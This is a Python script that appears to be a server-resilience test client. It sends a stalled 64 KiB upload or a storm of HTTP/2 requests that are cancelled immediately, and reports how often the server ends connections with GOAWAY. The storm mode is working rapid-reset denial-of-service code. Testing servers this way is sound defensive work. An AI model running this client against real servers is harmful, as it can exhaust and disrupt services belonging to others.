"""A badly behaved HTTP/2 client (PyPI h2).
Usage: h2_abuse.py HOST PORT stall SECONDS   begins an upload, sends 64 KiB and then nothing
       h2_abuse.py HOST PORT storm COUNT     sends COUNT requests and cancels each at once
Prints one JSON object. `reconnects` counts connections that the other side ended with GOAWAY."""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

HOST, PORT, WHAT, NUMBER = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])


class Client:
    def __init__(self):
        self.sock = socket.create_connection((HOST, PORT), timeout=20)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.ended = False
        self.events = []
        self.flush()
        self.read_until(lambda: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in self.events))

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def read(self, wait):
        """Takes in what is there; notices GOAWAY and the end."""
        if self.ended or not select.select([self.sock], [], [], wait)[0]:
            return
        try:
            data = self.sock.recv(65536)
            events = self.h2.receive_data(data) if data else []
        except (OSError, h2.exceptions.ProtocolError):
            self.ended = True
            return
        self.ended |= not data or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
        self.events += events
        if not self.ended:
            self.flush()

    def read_until(self, condition, limit=20):
        end = time.monotonic() + limit
        while not condition() and not self.ended and time.monotonic() < end:
            self.read(0.1)

    def request(self, method, path, end):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, [(":method", method), (":scheme", "http"), (":path", path),
                                      (":authority", f"{HOST}:{PORT}")], end_stream=end)
        return stream


def stall(seconds):
    client = Client()
    stream = client.request("POST", "/upload", end=False)
    sent = 0
    while sent < 65536:
        room = min(client.h2.local_flow_control_window(stream), client.h2.max_outbound_frame_size, 65536 - sent)
        if room <= 0:
            client.read(0.5)
            if client.h2.local_flow_control_window(stream) <= 0:
                break
            continue
        client.h2.send_data(stream, b"u" * room)
        client.flush()
        sent += room
    end = time.monotonic() + seconds
    while time.monotonic() < end and not client.ended:
        client.read(0.2)
    return dict(sent=sent, ended=client.ended)


def storm(count):
    client, sent, reconnects, began = Client(), 0, 0, time.monotonic()
    while sent < count:
        if client.ended:
            client, reconnects = Client(), reconnects + 1
        try:
            for _ in range(min(20, int(count) - sent)):
                stream = client.request("GET", "/slow", end=True)
                client.h2.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            client.flush()
        except (OSError, h2.exceptions.ProtocolError):
            client.ended = True
        client.read(0)
        client.events.clear()
    return dict(cancelled=sent, reconnects=reconnects, seconds=round(time.monotonic() - began, 3))


print(json.dumps(dict(stall=stall, storm=storm)[WHAT](NUMBER)), flush=True)
